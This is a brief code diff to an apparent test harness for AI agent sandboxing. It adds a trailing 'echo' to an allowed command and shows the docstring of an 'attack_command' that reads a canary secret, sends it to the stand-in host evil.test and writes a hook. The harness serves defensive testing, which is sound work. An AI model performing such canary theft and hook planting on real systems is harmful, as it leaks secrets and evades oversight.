@@ -65,8 +65,9 @@ class AgentWorld:
         return self.world.canary
 
     def allowed_command(self) -> str:
-        """Writes a workspace file and fetches from the allowed host."""
-        return f"echo made > made.txt && curl -sS -m 20 http://ok.test:{self.ok.port}/fine"
+        """Writes a workspace file and fetches from the allowed host (then a newline: a
+        persistent shell's end marker must start a line)."""
+        return f"echo made > made.txt && curl -sS -m 20 http://ok.test:{self.ok.port}/fine; echo"
 
     def attack_command(self) -> str:
         """Reads the canary, fetches from evil.test (with the canary), writes a hook."""
